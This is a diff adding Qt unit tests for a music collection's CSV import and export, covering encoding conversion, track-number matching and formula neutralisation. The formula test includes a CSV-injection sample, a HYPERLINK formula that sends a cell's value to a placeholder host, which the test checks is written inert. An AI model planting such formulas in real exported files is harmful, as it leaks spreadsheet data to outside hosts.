@@ -53,6 +53,12 @@ private slots:
     void damagedFilesAddNothing_data();
     void damagedFilesAddNothing();
     void intoACollectionWithRows();
+    void formulasWrittenInert_data();
+    void formulasWrittenInert();
+    void windows1252Converted_data();
+    void windows1252Converted();
+    void tracksFindTheirReleaseByNumber_data();
+    void tracksFindTheirReleaseByNumber();
 };
 
 void TestCsvTables::roundTripIsByteIdentical() {
@@ -89,6 +95,9 @@ void TestCsvTables::damagedFilesAddNothing_data() {
         << "Genre.csv, line 1: expected field names of the table, found 'Colour'";
     QTest::newRow("a row short of fields") << QByteArray("NrTitel,Musiker\r\nYö\r\n")
                                            << "Musiker.csv, line 2: expected 2 fields, found 1";
+    QTest::newRow("UTF-8 broken further on")
+        << QByteArray("Titel\r\nKes\xC3\xA4\r\nTalvi\r\nY\xF6\r\n")
+        << "Lydsam.csv, line 4: not UTF-8";
     QTest::newRow("the last file cut off in a quote")
         << QByteArray("NrTitel,Musiker\r\nYö,\"Eero\r\n")
         << "Musiker.csv, line 2: a quoted field is not closed";
@@ -149,6 +158,97 @@ void TestCsvTables::intoACollectionWithRows() {
     QCOMPARE(TestCollection::column(c.genre, "Genre"), (QStringList{"jazz", "Blues"}));
     // Again: every release is there already.
     QCOMPARE(exchange::importCsvTables(c.tables, dir.path()).releases, 0);
+}
+
+void TestCsvTables::formulasWrittenInert_data() {
+    QTest::addColumn<QString>("titel");
+    QTest::addColumn<QByteArray>("cell"); // as Lydsam.csv has it
+    QTest::newRow("a formula") << "=HYPERLINK(\"//x/?\"&A2;\"Levy\")"
+                               << QByteArray("\"'=HYPERLINK(\"\"//x/?\"\"&A2;\"\"Levy\"\")\"");
+    QTest::newRow("an at sign") << "@SUM(1)" << QByteArray("'@SUM(1)");
+    QTest::newRow("a plus") << "+358" << QByteArray("'+358");
+    QTest::newRow("a minus") << "-x" << QByteArray("'-x");
+    QTest::newRow("a tab") << "\tx" << QByteArray("'\tx");
+    QTest::newRow("a carriage return") << "\rx" << QByteArray("\"'\rx\"");
+    QTest::newRow("guarded by hand already") << "'=1" << QByteArray("''=1");
+    QTest::newRow("an apostrophe of its own") << "'62" << QByteArray("'62");
+    QTest::newRow("a sign further on") << "a-b" << QByteArray("a-b");
+}
+
+// The negative price stays a number; the text comes back as it was, the files byte for byte.
+void TestCsvTables::formulasWrittenInert() {
+    QFETCH(QString, titel);
+    QFETCH(QByteArray, cell);
+    QTemporaryDir dir;
+    TestCollection first;
+    TestCollection::add(first.lydsam, {"Titel=" + titel, "Pris=-5", "Num=1"});
+    TestCollection::add(first.numre, {"Num=1", "NrTitel=" + titel});
+    exchange::writeCsvTables(first.tables, dir.filePath("a"));
+    QCOMPARE(contents(dir.filePath("a/Lydsam.csv")).split('\n').value(1),
+             "," + cell + ",,,,,,,-5,1,\r");
+
+    TestCollection second;
+    exchange::importCsvTables(second.tables, dir.filePath("a"));
+    QCOMPARE(TestCollection::column(second.lydsam, "Titel"), QStringList{titel});
+    exchange::writeCsvTables(second.tables, dir.filePath("b"));
+    for (const QString& name : kFiles)
+        QCOMPARE(contents(dir.filePath("b/" + name)), contents(dir.filePath("a/" + name)));
+
+    TestCollection withRows;
+    TestCollection::add(withRows.lydsam, {"Titel=Oma", "Num=1"});
+    exchange::importCsvTables(withRows.tables, dir.filePath("a"));
+    QCOMPARE(TestCollection::column(withRows.lydsam, "Titel"), (QStringList{"Oma", titel}));
+    QCOMPARE(TestCollection::column(withRows.numre, "NrTitel"), QStringList{titel});
+}
+
+void TestCsvTables::windows1252Converted_data() {
+    QTest::addColumn<bool>("empty"); // the target: restored as it is, or imported as records
+    QTest::newRow("into an empty collection") << true;
+    QTest::newRow("into one with rows") << false;
+}
+
+// A spreadsheet saved the file again in its own encoding.
+void TestCsvTables::windows1252Converted() {
+    QFETCH(bool, empty);
+    QTemporaryDir dir;
+    write(dir.filePath("Lydsam.csv"),
+          "Kunstner,Titel,Forlag,Num\r\nAC,Ei,Levy,2\r\nM\xF6tley Cr\xFC"
+          "e,Dr. Feelgood,"
+          "\xC4\xE4ni,3\r\n");
+    write(dir.filePath("Numre.csv"), "Num,NrTitel\r\n3,Kickstart My Heart\r\n");
+    TestCollection c;
+    if (!empty)
+        TestCollection::add(c.lydsam, {"Titel=Oma", "Num=1"});
+    const auto s = exchange::importCsvTables(c.tables, dir.path());
+    QCOMPARE(TestCollection::column(c.lydsam, "Kunstner").mid(empty ? 0 : 1),
+             (QStringList{"AC", "Mötley Crüe"}));
+    QCOMPARE(TestCollection::column(c.lydsam, "Forlag").last(), QString("Ääni"));
+    QCOMPARE(c.numre.storedRowCount(), 1);
+    QVERIFY(s.fromWindows1252);
+    QCOMPARE(s.notes, std::vector<std::string>{"Lydsam.csv: not UTF-8, read as Windows-1252"});
+}
+
+void TestCsvTables::tracksFindTheirReleaseByNumber_data() {
+    QTest::addColumn<QByteArray>("lydsamNum");
+    QTest::addColumn<QByteArray>("numreNum");
+    QTest::newRow("a leading zero on the track") << QByteArray("7") << QByteArray("07");
+    QTest::newRow("a leading space on the track") << QByteArray("7") << QByteArray("\" 7\"");
+    QTest::newRow("a leading zero on the release") << QByteArray("07") << QByteArray("7");
+    QTest::newRow("both written alike") << QByteArray("7") << QByteArray("7");
+}
+
+void TestCsvTables::tracksFindTheirReleaseByNumber() {
+    QFETCH(QByteArray, lydsamNum);
+    QFETCH(QByteArray, numreNum);
+    QTemporaryDir dir;
+    write(dir.filePath("Lydsam.csv"), "Titel,Num\r\nSeitsemän," + lydsamNum + "\r\n");
+    write(dir.filePath("Numre.csv"), "Num,NrTitel\r\n" + numreNum + ",Yö\r\n");
+    TestCollection c;
+    TestCollection::add(c.lydsam, {"Titel=Oma", "Num=1"});
+    const auto s = exchange::importCsvTables(c.tables, dir.path());
+    QCOMPARE(s.skipped, 0);
+    QCOMPARE(TestCollection::column(c.numre, "Titel"), QStringList{"Seitsemän"});
+    QCOMPARE(TestCollection::column(c.numre, "Num"), QStringList{"2"});
 }
 
 QTEST_GUILESS_MAIN(TestCsvTables)
